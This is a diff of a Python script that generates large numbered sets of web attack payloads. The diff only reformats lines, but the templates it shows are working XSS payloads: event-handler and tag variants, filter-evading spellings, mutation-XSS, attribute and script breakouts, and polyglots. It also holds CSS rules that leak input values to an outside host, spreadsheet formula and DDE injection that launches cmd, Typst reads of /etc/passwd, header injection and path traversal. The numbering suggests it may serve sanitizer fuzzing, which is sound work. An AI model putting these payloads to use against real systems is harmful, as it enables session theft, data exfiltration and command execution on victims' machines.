@@ -26,7 +26,8 @@ def main():
 def numbered():
     """[kind, text] of every payload, in order: that of line n says n."""
     return [
-        [kind, shape.replace("§", f"f({n})").replace("¶", f"{HOST}/{n}")] for n, (kind, shape) in enumerate(shapes())
+        [kind, shape.replace("§", f"f({n})").replace("¶", f"{HOST}/{n}")]
+        for n, (kind, shape) in enumerate(shapes())
     ]
 
 
@@ -48,7 +49,7 @@ def handlers():
         "<svg on{}=§>": facts.EVENTS,
         "<x tabindex=1 autofocus style=animation:x on{}='§'>x</x>": facts.EVENTS,
         "<video controls src=x on{}=§><source src=x></video>": facts.EVENTS,
-        "<input autofocus on{}=\"§\">": facts.EVENTS,
+        '<input autofocus on{}="§">': facts.EVENTS,
     }
     for shape, events in carriers.items():
         for event in events:
@@ -57,7 +58,9 @@ def handlers():
 
 def tags():
     """Every tag of HTML, SVG and MathML, with a handler that fires by itself, and with one of a touch."""
-    ways = cycle(["focus", "animationstart", "load", "error", "mouseover", "pointerenter", "focusin", "transitionend"])
+    ways = cycle(
+        ["focus", "animationstart", "load", "error", "mouseover", "pointerenter", "focusin", "transitionend"]
+    )
     for tag in facts.HTML_TAGS:
         yield f"<{tag} tabindex=0 autofocus on{next(ways)}=§>x</{tag}>"
         yield f'<{tag} src=x href=x data=x style="animation-name:x" on{next(ways)}="§">'
@@ -70,14 +73,40 @@ def tags():
 
 def spellings():
     """One and the same script, written so that filters read it differently."""
-    for gap in ["/", "//", "\t", "\n", "\r", "\f", "\v", "/x/", " /", "\x00", "%09", "%0a", "%0d", "/\t/", "\u3000"]:
+    for gap in [
+        "/",
+        "//",
+        "\t",
+        "\n",
+        "\r",
+        "\f",
+        "\v",
+        "/x/",
+        " /",
+        "\x00",
+        "%09",
+        "%0a",
+        "%0d",
+        "/\t/",
+        "\u3000",
+    ]:
         yield f"<img{gap}src=x{gap}onerror=§>"
         yield f"<svg{gap}onload=§>"
         yield f"<script{gap}>§</script{gap}>"
         yield f"<{gap}script>§</script>"
         yield f"<img src=x onerror{gap}={gap}§>"
         yield f"<a href={gap}javascript:§>x</a>"
-    for word in ("script", "ScRiPt", "SCRIPT", "scr<script>ipt", "scr\x00ipt", "ſcript", "scrıpt", "sc\u200bript", "ｓcript"):
+    for word in (
+        "script",
+        "ScRiPt",
+        "SCRIPT",
+        "scr<script>ipt",
+        "scr\x00ipt",
+        "ſcript",
+        "scrıpt",
+        "sc\u200bript",
+        "ｓcript",
+    ):
         yield f"<{word}>§</{word}>"
         yield f"<{word} src=//¶></{word}>"
         yield f"<{word} src=data:,§></{word}>"
@@ -106,7 +135,7 @@ def spellings():
                  "Reflect.apply(f,0,[§])", "Array.from([0],()=>§)", "document.write('<script>§<\\/script>')"):  # fmt: skip
         yield f"<img src=x onerror={call!r}>"
         yield f"<script>{call}</script>"
-        yield f"<svg><animate onbegin=\"{escape(call)}\" attributeName=x dur=1s>"
+        yield f'<svg><animate onbegin="{escape(call)}" attributeName=x dur=1s>'
 
 
 def encodings():
@@ -196,7 +225,9 @@ def addresses():
     )  # fmt: skip
     for at, address in enumerate(disguised):
         # All places for the plain ones, and for the others by turns, so that each place meets a third of them.
-        yield from (place.format(address) for turn, place in enumerate(places) if at < 2 or (turn + at) % 3 == 0)
+        yield from (
+            place.format(address) for turn, place in enumerate(places) if at < 2 or (turn + at) % 3 == 0
+        )
 
 
 def mutations():
@@ -206,7 +237,7 @@ def mutations():
             name = point.split()[0]
             yield f'<{root}><{point}><{raw}><a title="</{raw}><img src=x onerror=§>">'
             yield f'<{root}></p><{raw}><a id="</{raw}><img src=1 onerror=§>">'
-            yield f"<{root}><{point}><{raw}><!--</{raw}><img title=\"--&gt;&lt;img src=1 onerror=§&gt;\"></{name}>"
+            yield f'<{root}><{point}><{raw}><!--</{raw}><img title="--&gt;&lt;img src=1 onerror=§&gt;"></{name}>'
     for raw in facts.RAW_TAGS:
         yield f"<{raw}><img src=x onerror=§>"
         yield f"<{raw}></{raw}><img src=x onerror=§>"
@@ -231,7 +262,12 @@ def mutations():
         yield "<div>" * depth + "<svg><style><!--</style><img src=x onerror=§>"
         yield "<b>" * depth + "<script>§</script>"
     form = "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>"
-    yield from (form, form.replace("mtext", "mi"), form.replace("mglyph", "malignmark"), form.replace("style", "xmp"))
+    yield from (
+        form,
+        form.replace("mtext", "mi"),
+        form.replace("mglyph", "malignmark"),
+        form.replace("style", "xmp"),
+    )
     for end in ("-->", "--!>", "--->", "--!-->", "->", "--\x00>", "]]>", "?>", "%>", "*/", "#}", "%}", "}}", "*/-->", "/enpproperty-->",
                 "<!--/enpcontent-->", "-\xad->", "--\u2011>", "\u2010->"):  # fmt: skip
         yield f"{end}<script>§</script>"
@@ -253,7 +289,24 @@ def mutations():
 
 def breakouts():
     """Out of an attribute, a script, a style sheet, a comment, a JSON text or a template, into a script."""
-    for end in ('"', "'", "`", "", '\\"', "\\'", "&quot;", "&#39;", "&#x27;", '"/', "'/", '">', "'>", "\" '", "\n", '"\r\n'):
+    for end in (
+        '"',
+        "'",
+        "`",
+        "",
+        '\\"',
+        "\\'",
+        "&quot;",
+        "&#39;",
+        "&#x27;",
+        '"/',
+        "'/",
+        '">',
+        "'>",
+        "\" '",
+        "\n",
+        '"\r\n',
+    ):
         yield f"{end} onfocus=§ autofocus tabindex=1 x={end}"
         yield f"{end} onmouseover=§ style=position:fixed;inset:0 x={end}"
         yield f"{end} onanimationstart=§ style=animation:x x={end}"
@@ -263,7 +316,27 @@ def breakouts():
         yield f"{end}><img src=x onerror=§>"
         yield f"{end}></textarea></title></style></script><svg onload=§>"
         yield f"{end}}}</style><script>§</script>"
-    for end in ("'", '"', "`", "\\'", '\\"', "\\\\'", "", "\u2028", "\u2029", "\n", "\r", "');", '");', "`);", "')", "'}", '"}', "'}]", "']"):
+    for end in (
+        "'",
+        '"',
+        "`",
+        "\\'",
+        '\\"',
+        "\\\\'",
+        "",
+        "\u2028",
+        "\u2029",
+        "\n",
+        "\r",
+        "');",
+        '");',
+        "`);",
+        "')",
+        "'}",
+        '"}',
+        "'}]",
+        "']",
+    ):
         yield f"{end};§;//"
         yield f"{end}-§-{end}"
         yield f"{end}+§+{end}"
@@ -308,7 +381,7 @@ def sheets():
     for rule in ("@import '//¶';", "@import url(//¶);", "@namespace x url(//¶);", "@charset 'utf-7';@import'//¶';", "<!--@import'//¶'-->",
                  "@\\69mport'//¶';", "input[value^=a]{background:url(//¶)}", "a:visited{background:url(//¶)}", "{}*{background:url(//¶)}"):  # fmt: skip
         yield f"<style>{rule}</style>"
-        yield f"<link rel=stylesheet href=\"data:text/css,{rule}\">"
+        yield f'<link rel=stylesheet href="data:text/css,{rule}">'
         yield f"</style><style>{rule}"
 
 
@@ -330,7 +403,11 @@ def asking():
     )  # fmt: skip
     for turn, element in enumerate(elements):
         forms = ("//¶", "https://¶", "http://¶?a=b&c", "\\\\¶", "'/\\¶'", '"\n//¶"', "&#47;&#47;¶", "https:¶")
-        yield from (element.format(*[form] * element.count("{}")) for at, form in enumerate(forms) if at < 3 or (turn + at) % 3 == 0)
+        yield from (
+            element.format(*[form] * element.count("{}"))
+            for at, form in enumerate(forms)
+            if at < 3 or (turn + at) % 3 == 0
+        )
 
 
 def clobbering():
@@ -345,7 +422,28 @@ def files():
     """For what is no page: spreadsheets, typesetting, mail, XML, logs, addresses of files."""
     formulas = ('HYPERLINK("http://¶","x")', "cmd|' /C calc'!A§", 'WEBSERVICE("http://¶")', 'IMPORTXML("http://¶","//a")', "1+1+§", "SUM(1)*§",
                 'DDE("cmd";"/C §")', "rundll32|'URL.dll,OpenURL ¶'!A", 'IMAGE("http://¶")')  # fmt: skip
-    for start, formula in product(("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", '"=', ";=", ",=", " =", "'=", "\ufeff="), formulas):
+    for start, formula in product(
+        (
+            "=",
+            "+",
+            "-",
+            "@",
+            "\t=",
+            "\r=",
+            "\n=",
+            "＝",
+            "＋",
+            "－",
+            "＠",
+            '"=',
+            ";=",
+            ",=",
+            " =",
+            "'=",
+            "\ufeff=",
+        ),
+        formulas,
+    ):
         yield start + formula
     for typst in ('#read("/etc/passwd")', '#image("/etc/passwd")', "#import sys: *", '#include "/etc/passwd"', '#eval("§")', '#link("http://¶")[x]',
                   "#panic()", "#sys.inputs", "#set page(width: 1pt)", "#while true {}", "#raw(read(\"page.typ\"))", "$ integral $ #f", "#pdf.embed(\"page.typ\")",
@@ -353,16 +451,43 @@ def files():
         yield f"{typst} §"
         yield f"] {typst} [ §"
         yield f'"}}; {typst} §'
-    for header in ("Bcc: x@¶", "Subject: §", "Content-Type: text/html", "Set-Cookie: a=§", "Location: //¶", "Content-Disposition: inline"):
-        yield from (f"x{end}{header}{end}{end}<script>§</script>" for end in ("\r\n", "\n", "%0d%0a", "\u2028", "\x85", "\r"))
-    for path in ("../../../etc/passwd", "..\\..\\x", "/etc/passwd\x00.jpg", "x.html", "x.svg", "CON", "‮gpj.exe"):
+    for header in (
+        "Bcc: x@¶",
+        "Subject: §",
+        "Content-Type: text/html",
+        "Set-Cookie: a=§",
+        "Location: //¶",
+        "Content-Disposition: inline",
+    ):
+        yield from (
+            f"x{end}{header}{end}{end}<script>§</script>"
+            for end in ("\r\n", "\n", "%0d%0a", "\u2028", "\x85", "\r")
+        )
+    for path in (
+        "../../../etc/passwd",
+        "..\\..\\x",
+        "/etc/passwd\x00.jpg",
+        "x.html",
+        "x.svg",
+        "CON",
+        "‮gpj.exe",
+    ):
         yield f"{path}<svg onload=§>"
         yield f'{path}";filename="x.html";x=§'
 
 
 def polyglots():
     """Several shapes in one, so that it breaks out of whichever place it comes to."""
-    starts = ("javascript:/*", "--></title></style></textarea></script></xmp>", "'\"`>", "]]>*/", "{{'x'}}", "\\';", "%0a*/", "</template></noscript>")
+    starts = (
+        "javascript:/*",
+        "--></title></style></textarea></script></xmp>",
+        "'\"`>",
+        "]]>*/",
+        "{{'x'}}",
+        "\\';",
+        "%0a*/",
+        "</template></noscript>",
+    )
     middles = ("<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+§//'>", "<img src=x onerror=§//'\"`>", "<script>§</script>", "/*/onfocus=§ autofocus//",
                "-->*/§//", "<details open ontoggle=§>", "<iframe srcdoc=\"<script>parent.§</script>\">", "\" onload=§ '")  # fmt: skip
     ends = ("", "<!--", "/*`'\"", "\u2028", "</script>", "{{")
@@ -370,7 +495,20 @@ def polyglots():
         yield "".join(parts)
 
 
-FAMILIES = (handlers, tags, spellings, encodings, addresses, mutations, breakouts, sheets, asking, clobbering, files, polyglots)
+FAMILIES = (
+    handlers,
+    tags,
+    spellings,
+    encodings,
+    addresses,
+    mutations,
+    breakouts,
+    sheets,
+    asking,
+    clobbering,
+    files,
+    polyglots,
+)
 
 if __name__ == "__main__":
     main()
